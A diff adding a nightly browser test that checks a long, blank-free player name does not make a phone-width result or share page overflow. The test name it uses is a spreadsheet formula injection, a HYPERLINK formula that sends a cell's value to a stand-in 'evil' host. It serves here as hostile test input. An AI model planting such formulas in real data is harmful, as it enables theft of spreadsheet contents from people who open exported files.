@@ -61,6 +61,22 @@ def test_from_the_builder_to_the_result(open_page, fits, settings):
 
 
 @pytest.mark.nightly
+def test_a_name_without_blanks_does_not_widen_a_phone(open_page, settings):
+    settings.BATTLE_WORKERS = 1
+    page = asked(open_page, width=390)
+    page.fill("#b-text", json.dumps(SOUTH | {"name": '=HYPERLINK("http://evil/?"&A1,"x")'}))
+    follow(page, page.get_by_role("button", name="Fight"))
+    BattleJob.objects.update(battles=2)
+    with page.expect_navigation():
+        work_off()
+    page.get_by_role("heading", name="Result", exact=True).wait_for()
+    assert overflow(page) == 0
+
+    follow(page, "#share")
+    follow(page, page.get_by_role("link", name="Open it"))
+    assert overflow(page) == 0
+
+
 def test_what_is_opened_stays_open(open_page, settings):
     settings.BATTLE_WORKERS = 1
     page = asked(open_page)
